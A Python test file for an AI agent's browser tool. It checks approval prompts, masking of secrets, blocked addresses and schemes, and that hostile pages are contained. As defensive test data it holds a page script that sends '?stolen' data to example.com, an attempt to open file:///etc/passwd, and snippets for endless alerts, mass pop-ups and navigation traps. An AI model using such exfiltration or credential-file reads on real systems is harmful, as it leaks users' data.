"""The browser's life: nobody else's pages, nothing left behind, hostile pages, whom it asks."""

from __future__ import annotations

import asyncio
import re
import tempfile
from dataclasses import replace

import pytest
from playwright.async_api import async_playwright

from tests.cases import each_case
from tests.conditions import settled, until
from tests.servers.forbidden_host import CHANNELS, NEVER_SEEN, ForbiddenHost, own_address, set_up
from tests.servers.web_app import WebApp, web_app
from tests.tools.browser.conftest import Desk, opened_to, step
from toolcrib.browser.browsers import Browsers
from toolcrib.browser.program import own_sandbox
from toolcrib.toolbox import Toolbox

pytestmark = [
    pytest.mark.asyncio(loop_scope="session"),
    pytest.mark.rows("C040", "C041", "E56", "E57"),
    pytest.mark.timeout(170),
]

SERVER = """import http.server
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = (b"<title>Mine</title><button onclick=\\"document.title='Clicked'\\">Press</button>"
                b"<script>fetch('http://example.com/?stolen').catch(() => 0)</script>")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_):
        pass
server = http.server.HTTPServer(("127.0.0.1", 8000), Page)
print("ready", flush=True)
server.serve_forever()
"""


async def test_a_cancelled_call_leaves_no_page(desk: Desk) -> None:
    requested = len(desk.app.requested)
    call = asyncio.ensure_future(desk.talk("cancelled")("open", url=f"{desk.url}/silent"))
    await until(lambda: "/silent" in desk.app.requested[requested:])
    call.cancel()
    await asyncio.gather(call, return_exceptions=True)
    await until(lambda: not desk.box.use(Browsers).has("cancelled"))


async def test_a_page_that_hangs_holds_up_only_itself(desk: Desk) -> None:
    await desk("open", url=f"{desk.url}/busy")
    stuck = await desk.call("browser_act", actions=[step("click Spin")])
    assert stuck.error is not None or "Then it ended" in stuck.text
    assert "Desk" in (await desk("open", url=desk.url)).text


async def test_a_page_that_talks_without_end(desk: Desk) -> None:
    await desk("open", url=f"{desk.url}/chatty")
    assert (await desk.act("click Talk")).count("Dialog (alert)") <= 20


async def test_a_page_that_opens_windows_without_end(desk: Desk) -> None:
    talk = desk.talk("windows")
    await talk("open", url=f"{desk.url}/chatty")
    assert "more than 20 tabs" in await talk.act("click Open")
    await talk("close")


async def test_errors_say_what_happened(desk: Desk) -> None:
    assert "redirects for ever" in await desk.refused("open", url=f"{desk.url}/round")
    assert "scheme" in await desk.refused("open", url=f"{desk.url}/to-file")
    assert "did not answer within" in await desk.refused("open", url=f"{desk.url}/silent")
    assert "wants a name and a password" in await desk.refused("open", url=f"{desk.url}/basic")
    blocked = await desk.refused("open", url="http://10.0.0.1/")
    assert "Error (blocked_address)" in blocked


async def test_acting_is_asked_once_for_a_site_and_conversation(desk: Desk) -> None:
    talk = replace(desk.talk("asked"), questions=[])
    await talk("open", url=desk.url)
    await talk.act("hover Send")
    assert talk.questions == []
    await talk.act("click Load")
    await talk.act("click Ask")
    assert talk.questions == [f"it may act on {desk.url}"]
    nobody = await desk.box.call(
        "browser_open", {"url": desk.url, "actions": [step("click Load")]}, session="other"
    )
    assert nobody.error is not None
    assert nobody.error.code == "needs_approval"
    await talk("close")


async def test_passwords_and_secrets_are_typed_where_they_belong_and_never_shown(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DESK_PASSWORD", "s3cret-word")
    talk = desk.talk("secrets")
    await talk("open", url=f"{desk.url}/login")
    refused = await talk.refused("act", actions=[step("type User = secret:elsewhere")])
    assert "Error (denied)" in refused
    assert desk.url in refused
    own = await talk.act("type Password = hunter2-and-more", read="page")
    assert "hunter2-and-more" not in own
    assert own.count("••••") == 1
    typed = await talk.act("type User = secret:desk", "type Password = secret:desk", read="page")
    assert "s3cret-word" not in typed
    assert typed.count("••••") == 2
    assert "Welcome, ann" in await talk.act("type User = ann", "click Log in")
    assert "s3cret-word" not in (await talk.call("usage_stats")).render()
    await talk("close")


async def test_scripts_of_a_model_are_off(desk: Desk) -> None:
    await desk("open", url=desk.url)
    assert "browser.evaluate" in await desk.refused(
        "act", actions=[{"action": "evaluate", "value": "document.title"}]
    )


async def test_without_a_browser_it_says_how_to_get_one(app: WebApp) -> None:
    missing = {"executable": f"{tempfile.gettempdir()}/no-browser"}
    async with Toolbox({**opened_to(app.url), "browser": missing}) as box:
        result = await box.call("browser_open", {"url": app.url})
        assert result.error is not None
        assert result.error.code == "not_configured"
        assert "browser.executable" in result.error.message


@pytest.mark.rows("X4")
async def test_nothing_reaches_a_forbidden_host(desk: Desk, forbidden: ForbiddenHost) -> None:
    leaks = desk.talk("leaks")
    opened = await leaks("open", url=set_up(desk.app, forbidden), actions=[step("wait = Tried")])
    assert "Tried" in opened.text
    await settled(lambda: forbidden.connections)
    assert forbidden.reached == set()
    assert forbidden.connections == 0
    await leaks("close")


@pytest.mark.rows("X4")
@each_case("scheme", ["file:///etc/passwd", "chrome://version", "view-source:http://x/"])
async def test_other_schemes_are_refused(desk: Desk, scheme: str) -> None:
    opened = await desk.call("browser_open", url=scheme)
    assert opened.error is not None
    assert opened.error.code in ("bad_input", "blocked_scheme"), opened.render()


async def test_a_server_of_a_run(desk: Desk) -> None:
    (desk.folder / "server.py").write_text(SERVER)
    talk = desk.talk("runs")
    await talk("open", url=desk.url)
    command = "python3 server.py"
    started = (await talk.call("run_command", command=command, ports=[8000])).text
    url = re.search(r"http://127\.0\.0\.1:\d+/", started)
    job = re.search(r"job (\w+)", started)
    if url is None or job is None:
        pytest.skip("servers of runs are not reached at this level of the sandbox")
    await talk.call("read_job", id=job[1], wait="text", text="ready", timeout=30)
    mine = (await talk("open", url=url[0])).text
    assert 'button "Press"' in mine
    # Its script asks while it is looked at, or after: the next look tells it then.
    while "a page of a run's server asks for example.com" not in mine:
        mine = (await talk("read")).text
    assert "a page of a run's server asks" not in (await talk("read")).text
    assert "Clicked" in (await talk("act", actions=[step("click Press")])).text
    # Its page and those of the web have tabs, and ways out, of their own.
    assert "[tab" in (await talk("open", url=desk.url)).text
    await talk.call("stop_job", id=job[1])
    await talk("close")


# Tests of the night.


async def test_what_a_rule_forbids_is_not_shown_wherever_a_link_led(app: WebApp) -> None:
    rules = [
        {"action": "deny", "group": "browser", "target": f"{app.url}/echo*"},
        {"action": "allow", "group": "browser", "rights": ["send", "net", "read"]},
    ]
    async with Toolbox(opened_to(app.url) | {"policy": {"rules": rules}}) as box:
        assert (await box.call("browser_open", {"url": app.url})).error is None
        sent = await box.call("browser_act", {"actions": [step("click Send")]})
        assert sent.error is not None
        assert sent.error.code == "denied"
        read = await box.call("browser_read")
        assert read.error is not None
        assert "You said" not in read.error.message


async def test_a_page_that_opens_1000_windows_is_named_so(desk: Desk) -> None:
    opens = "for (let i = 0; i < 1000; i++) window.open('/echo?n=' + i)"
    desk.app.pages["/thousand"] = f'<title>Many</title><button onclick="{opens}">Open</button>'
    talk = desk.talk("thousand")
    await talk("open", url=f"{desk.url}/thousand")
    acted = (await talk.call("browser_act", actions=[step("click Open")])).render()
    assert "more than 20 tabs" in acted
    await talk("close")
    assert "Desk" in (await talk("open", url=desk.url)).text


@pytest.mark.rows("X4")
async def test_without_a_guard_they_do(browser_program: str, forbidden: ForbiddenHost) -> None:
    with web_app() as app:
        url = set_up(app, forbidden)
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=browser_program, chromium_sandbox=own_sandbox()
            )
            page = await browser.new_page()
            await page.goto(url)
            await page.get_by_text("Tried").wait_for()
            await settled(lambda: len(forbidden.reached))
            await browser.close()
    missing = set(CHANNELS) - forbidden.reached - NEVER_SEEN
    if own_address() == "127.0.0.1":
        missing.discard("webrtc")
    assert not missing, f"without a guard these reach nothing, so they show nothing: {missing}"


BAD_PAGES: dict[str, tuple[str, str, str]] = {
    "dialogs without end": (
        "<button onclick='function f() { alert(1); setTimeout(f, 0) } f()'>Go</button>",
        "click Go",
        "Dialog (alert) accepted",
    ),
    "changes all the time": (
        (
            "<ul></ul><script>let n = 0; setInterval(() => { document.querySelector('ul').innerHTML"
            " = `<li><button>B${n++}</button>`.repeat(50) }, 1)</script>"
        ),
        "click B1",
        "No element says 'B1'",
    ),
    "letters that nobody sees": ("<button>S\u200dend\u200b</button>", "click Send", "clicked"),
    "leaving is refused": (
        "<button onclick='onbeforeunload = e => e.preventDefault()'>Arm</button>",
        "click Arm",
        "clicked",
    ),
    "prints": ("<p>before</p><script>window.print()</script>", "wait = before", "waited"),
    "chooses a file": (
        "<input type=file id=f hidden><button onclick=f.click()>Pick</button>",
        "click Pick",
        "asks for a file",
    ),
    "a canvas": ("<canvas onclick='document.title = `at ${event.x}`'>", "click canvas", "at "),
    "a wall": (
        (
            "<button onclick='document.title = `read`'>More</button>"
            "<div role=dialog style='position:fixed;inset:0'><button>Reject</button></div>"
        ),
        "click More",
        "was covered",
    ),
    "goes on elsewhere": (
        "<script>setInterval(() => history.pushState({}, '', '?' + Math.random()), 10)</script>",
        "press = a",
        "pressed a",
    ),
    "deep": ("<div>" * 5_000 + "<button>Deep</button>", "click Deep", "clicked"),
    "long names": (f"<button aria-label='{'L' * 100_000}'>", "click button", "clicked"),
    "goes round": ("<meta http-equiv=refresh content=0><p>round</p>", "wait = round", "waited"),
    "loads itself anew": (
        "<p>anew</p><button>Stop</button><script>location.reload()</script>",
        "click Stop",
        "clicked",
    ),
    "frames in frames": ("<iframe src=/bad></iframe><p>self</p>", "wait = self", "waited"),
}


@each_case("page, action, expected", BAD_PAGES.values(), ids=BAD_PAGES)
async def test_bad_pages_have_clear_results_and_are_left(
    desk: Desk, page: str, action: str, expected: str
) -> None:
    talk = desk.talk("bad")
    desk.app.pages["/bad"] = f"<title>Bad</title>{page}"
    opened = await talk.call("browser_open", url=f"{desk.url}/bad")
    assert opened.error is None, opened.render()
    acted = (await talk.call("browser_act", actions=[step(action)])).render()
    assert expected in acted
    assert "internal" not in acted
    assert 'button "Send"' in (await talk("open", url=desk.url)).text


async def test_a_picture_is_of_the_kind_that_its_name_says(desk: Desk) -> None:
    await desk("open", url=desk.url)
    await desk("screenshot", path="named.pdf")
    assert (desk.folder / "named.pdf").read_bytes().startswith(b"%PDF")
